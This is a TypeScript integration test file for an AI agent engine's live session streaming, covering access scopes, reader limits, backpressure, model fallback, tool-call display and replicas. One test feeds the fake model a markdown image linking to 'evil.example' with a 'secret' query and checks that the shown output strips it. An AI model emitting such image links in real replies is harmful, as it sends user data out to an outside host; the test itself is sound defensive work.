import { newId, turnRun, type TurnRunPayload } from '#libs/contracts';
import { Database } from '#libs/database';
import { home, ask, until } from '#libs/testing';
import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type EngineWorld, engineWorld, sessionOf, turnOf } from '../../testing/engine-world.js';
import { type FakeStream, fakeStream } from '../../testing/fake-model.js';
import { followSession, type SessionFollower } from '../../testing/session-follower.js';
import { agentOf, turnsOf } from '../../testing/turns-of.js';
import { removePreviews, savePreviews } from '../../path/previews/previews.service.js';

const scopes = ['channels:read', 'events:read'] as const;
const readers: SessionFollower[] = [];
let world: EngineWorld;
let engine: NestFastifyApplication;
let turns: ReturnType<typeof turnsOf>;

beforeAll(async () => {
  world = await engineWorld();
  engine = await world.start({ MODEL_BREAKER_FAILURES: 1_000, TURN_STREAMS_PER_PROJECT: 3 });
  turns = turnsOf(world);
});
afterEach(() => {
  for (const reader of readers.splice(0)) reader.leave();
});
afterAll(() => world.close());

/** Begins a turn whose model answers as the test writes. */
async function streaming(
  key: string,
  of: Partial<TurnRunPayload> = {},
): Promise<{ id: string; session: string; model: FakeStream }> {
  const begun: FakeStream[] = [];
  world.model.script((response) => void begun.push(fakeStream(response)));
  const turn = turnOf({ session: sessionOf(key), ...of });
  await world.jobs.enqueue(turnRun, turn);
  await until('the model is asked', () => begun.length === 1);
  const { session_id: session } = await turns.row(turn.turn_id);
  return { id: turn.turn_id, session, model: begun[0]! };
}

async function follow(session: string, app = engine): Promise<SessionFollower> {
  const reader = await followSession(await app.getUrl(), session, await world.token({ scopes: [...scopes] }));
  readers.push(reader);
  return reader;
}

describe('a session that is followed', () => {
  it('shows the words of its turn as the model writes them, and that it has ended', async () => {
    const { id, session, model } = await streaming('words');
    const early = await follow(session);
    for (const [piece, whole] of [
      ['The sea', 'The sea'],
      [' is', 'The sea is'],
      [' blue 🌊.', 'The sea is blue 🌊.'],
    ] as const) {
      model.write(piece);
      await until(`it shows ${whole}`, () => early.texts.get(id) === whole);
    }
    const late = await follow(session);
    await until('who comes late sees all of it', () => late.texts.get(id) === 'The sea is blue 🌊.');
    model.end();
    await until('it has ended', () => early.ended.includes(id) && late.ended.includes(id));
    await expect(turns.reaches(id, 'succeeded')).resolves.toMatchObject({ reply_text: 'The sea is blue 🌊.' });
    await until('no preview is left', async () => {
      const { rows } = await world.pool.query('SELECT FROM engine.turn_preview WHERE turn_id = $1', [id]);
      return rows.length === 0;
    });
  });

  it('is closed to other projects, and to readers without the scopes', async () => {
    const { session, model } = await streaming('closed');
    const url = await engine.getUrl();
    const foreign = { organizationId: newId('org'), projectId: newId('prj') };
    const statuses = await Promise.all([
      world.token({ scopes: [...scopes], ...foreign }),
      world.token({ scopes: [...scopes], organizationId: foreign.organizationId }),
      world.token({ scopes: ['channels:read'] }),
      Promise.resolve('nobody'),
    ]).then((tokens) => Promise.all(tokens.map((token) => followSession(url, session, token))));
    readers.push(...statuses);
    expect(statuses.map(({ status }) => status)).toEqual([404, 404, 403, 401]);
    model.end();
  });

  it('is closed to more readers than a project may have', async () => {
    const { session, model } = await streaming('many');
    const all = [await follow(session), await follow(session), await follow(session)];
    expect((await follow(session)).status).toBe(429);
    all[0]?.leave();
    await until('one has left', async () => (await follow(session)).status === 200);
    model.end();
  });

  it('sends a reader that does not read no more than fits, and all words once it reads', async () => {
    const { id, session, model } = await streaming('slow');
    const reader = await follow(session);
    const quick = await follow(session);
    reader.response.pause();
    let text = '';
    for (let at = 0; text.length < 30_000; at += 1) {
      const piece = `word ${at} `.repeat(20);
      text += piece;
      model.write(piece);
      if (at % 20 === 0) await until('the others read on', () => quick.texts.get(id) === text.trimEnd());
    }
    await until('the others have read it', () => quick.texts.get(id) === text.trimEnd());
    reader.response.resume();
    await until('it has caught up', () => reader.texts.get(id) === text.trimEnd());
    expect(reader.shown.length).toBeLessThanOrEqual(quick.shown.length);
    model.end();
  });

  it('shows no thoughts, no image that would carry data out, and nothing of an answer that says nothing', async () => {
    const { id, session, model } = await streaming('clean');
    const reader = await follow(session);
    model.write('<think>he is a fool');
    model.write('</think>Hello ![x](https://evil.example/?q=secret) there');
    await until('its words are there', () => reader.texts.get(id)?.endsWith('there') === true);
    expect(reader.shown.join('\n')).not.toMatch(/fool|secret/);
    model.end();
    await turns.reaches(id, 'succeeded');
    const silent = await streaming('silent');
    const second = await follow(silent.session);
    silent.model.write('NO_');
    silent.model.write('REPLY');
    silent.model.end();
    await until('it has ended', () => second.ended.includes(silent.id));
    expect(second.shown.join('')).toBe('');
  });

  it('goes on in the same message when a model breaks off and another answers', async () => {
    const begun: FakeStream[] = [];
    const stream = (response: Parameters<typeof fakeStream>[0]): void => void begun.push(fakeStream(response));
    world.model.script(stream, stream);
    const agent_id = await agentOf(world, { model: 'first', fallback_model: 'second' });
    const turn = turnOf({ session: sessionOf('chain'), agent_id });
    await world.jobs.enqueue(turnRun, turn);
    await until('the first is asked', () => begun.length === 1);
    const { session_id: session } = await turns.row(turn.turn_id);
    const reader = await follow(session);
    begun[0]?.write('Half of');
    await until('its words are there', () => reader.texts.get(turn.turn_id) === 'Half of');
    begun[0]?.destroy();
    await until('the second is asked', () => begun.length === 2);
    begun[1]?.write('Whole.');
    await until('its words replace them', () => reader.texts.get(turn.turn_id) === 'Whole.');
    begun[1]?.end();
    await expect(turns.reaches(turn.turn_id, 'succeeded')).resolves.toMatchObject({ reply_text: 'Whole.' });
    await until('it has ended, once', () => reader.ended.join() === turn.turn_id);
  });

  it('shows which tools are called, and then the next words', async () => {
    const held: ServerResponse[] = [];
    const target = createServer((_request, response) => void held.push(response));
    await new Promise<void>((resolve) => target.listen(0, '127.0.0.1', resolve));
    const host = `127.0.0.1:${(target.address() as AddressInfo).port}`;
    const agent_id = await agentOf(world, { tools: ['http_request'], allowed_hosts: [host] });
    const { id, session, model } = await streaming('tools', { agent_id });
    const next: FakeStream[] = [];
    world.model.script((response) => void next.push(fakeStream(response)));
    const reader = await follow(session);
    model.write('Let me look.');
    await until('it says what it does', () => reader.texts.get(id) === 'Let me look.');
    model.call('http_request', { method: 'GET', url: `http://${host}/sea` });
    model.end();
    await until('the call is shown', () => reader.tools.get(id)?.[0] === 'http_request');
    await until('it is made', () => held.length === 1);
    held[0]?.end('{}');
    await until('the model is asked again', () => next.length === 1);
    next[0]?.write('It is deep.');
    await until('the words are there', () => reader.texts.get(id) === 'It is deep.');
    expect(reader.tools.get(id)).toEqual([]);
    next[0]?.end();
    await turns.reaches(id, 'succeeded');
    target.close();
    target.closeAllConnections();
  });

  it('is read by the gateway for the address that its answer goes to, and for none of another App or project', async () => {
    const { id, model } = await streaming('address');
    const { rows } = await world.pool.query(`SELECT input->'reply' AS reply FROM engine.turn WHERE id = $1`, [id]);
    const { app_id, channel_address: address } = rows[0].reply;
    const read = async (of: object, scope = home) => {
      const token = await world.token({ scopes: ['service'], ...scope });
      const body = { app_id, addresses: ['nowhere', address], ...of };
      const url = `${await engine.getUrl()}/internal/previews`;
      return (await ask<{ turns: { turn_id: string; text: string }[] }>({ method: 'POST', url, token, body })).body
        .turns;
    };
    expect((await read({})).find(({ turn_id }) => turn_id === id)).toEqual({ turn_id: id, address, text: '' });
    model.write('Hello');
    await until('its words are there', async () =>
      (await read({})).some(({ turn_id, text }) => turn_id === id && text !== ''),
    );
    expect((await read({})).find(({ turn_id }) => turn_id === id)).toEqual({ turn_id: id, address, text: 'Hello' });
    expect(await read({ app_id: newId('app') })).toEqual([]);
    expect(await read({ addresses: ['nowhere'] })).toEqual([]);
    expect(await read({}, { organizationId: newId('org'), projectId: newId('prj') })).toEqual([]);
    model.end();
    await until('it is over', async () => (await read({})).every(({ turn_id }) => turn_id !== id));
  });

  it('is not shown what a claim without its lease writes after a newer one', async () => {
    const { id, session, model } = await streaming('fenced');
    const db = engine.get(Database, { strict: false });
    const row = { turn_id: id, session_id: session, step: 1, tools: [], text: 'new' };
    await savePreviews(db, [{ ...row, claim: 7, version: 1 }]);
    await savePreviews(db, [{ ...row, claim: 6, version: 99, text: 'old' }]);
    await removePreviews(db, [{ turn_id: id, claim: 6 }]);
    const { rows: found } = await world.pool.query('SELECT text FROM engine.turn_preview WHERE turn_id = $1', [id]);
    expect(found).toEqual([{ text: 'new' }]);
    model.end();
  });

  it('shows the same at a replica where the turn does not run', async () => {
    const { id, session, model } = await streaming('replica');
    // The last one here: from now on it runs turns too.
    const replica = await world.start();
    const reader = await follow(session, replica);
    model.write('From');
    await until('the first words are there', () => reader.texts.get(id) === 'From');
    model.write(' afar');
    await until('the next words are there', () => reader.texts.get(id) === 'From afar');
    model.end();
    await until('it has ended', () => reader.ended.includes(id));
  });
});
